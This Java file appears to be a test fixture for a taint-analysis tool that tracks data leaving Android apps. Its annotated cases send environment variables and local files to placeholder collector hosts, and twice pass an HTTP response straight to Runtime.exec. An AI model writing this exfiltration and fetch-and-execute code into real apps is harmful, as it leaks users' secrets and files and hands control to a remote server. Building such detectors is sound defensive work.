// HTTP clients made for Android: what their requests are given, and what comes back.
package g;

import com.androidnetworking.AndroidNetworking;
import com.androidnetworking.interfaces.StringRequestListener;
import com.loopj.android.http.AsyncHttpClient;
import com.loopj.android.http.AsyncHttpResponseHandler;
import com.loopj.android.http.RequestParams;
import java.io.File;
import java.util.HashMap;

class Fast {
    static final String U = "https://fast.collector.example/u";

    void body() {
        HashMap<String, String> data = new HashMap<>();
        data.put("t", System.getenv("T")); //~ source(ENVIRONMENT) a1
        AndroidNetworking.post(U) //~ sink(egress.http) a1, finding(traced) a1, capability(NETWORK), source(NETWORK) a2
            .addBodyParameter(data)
            .setTag("t")
            .build()
            .setUploadProgressListener(null)
            .getAsString(new StringRequestListener() {
                @Override
                public void onResponse(String text) {
                    Runtime.getRuntime().exec(text); //~ sink(exec.command) a2, finding(traced) a2
                }
            });
        AndroidNetworking.post(U).addBodyParameter("t", "x").setTag("t").build().setUploadProgressListener(null).getAsString(null); //~ ok
        AndroidNetworking.post(U).addBodyParameter("t", System.getenv("T")).build(); //~ ok
    }

    void address() {
        AndroidNetworking.get(U + System.getenv("T")); //~ source(ENVIRONMENT) a3, sink(egress.http) a3, finding(traced) a3
        AndroidNetworking.get(U); //~ ok
    }

    void file() {
        AndroidNetworking.upload(U).addMultipartFile("f", new File("/data/a")).build().getAsString(null); //~ capability(FILES), source(FILE) a4, sink(egress.http) a4, finding(file-upload, traced) a4
        AndroidNetworking.upload(U).addMultipartFile("f", new File("/data/b")).build(); //~ ok
    }
}

class Loop {
    static final AsyncHttpClient client = new AsyncHttpClient();

    void sent() {
        RequestParams params = new RequestParams();
        params.put("t", System.getenv("T")); //~ source(ENVIRONMENT) b1
        client.post("https://loop.collector.example/", params, new AsyncHttpResponseHandler() { //~ sink(egress.http) b1, finding(traced) b1, source(NETWORK) b2
            @Override
            public void onSuccess(int status, Object headers, byte[] text) {
                Runtime.getRuntime().exec(new String(text)); //~ sink(exec.command) b2, finding(traced) b2
            }
        });
        RequestParams files = new RequestParams();
        files.put("f", new File("/data/c")); //~ source(FILE) b3, capability(FILES)
        client.post("https://loop.collector.example/", files, null); //~ sink(egress.http) b3, finding(file-upload, traced) b3
        RequestParams other = new RequestParams();
        other.put("t", "x"); //~ ok
        client.post("https://loop.collector.example/", other, null); //~ ok
    }
}
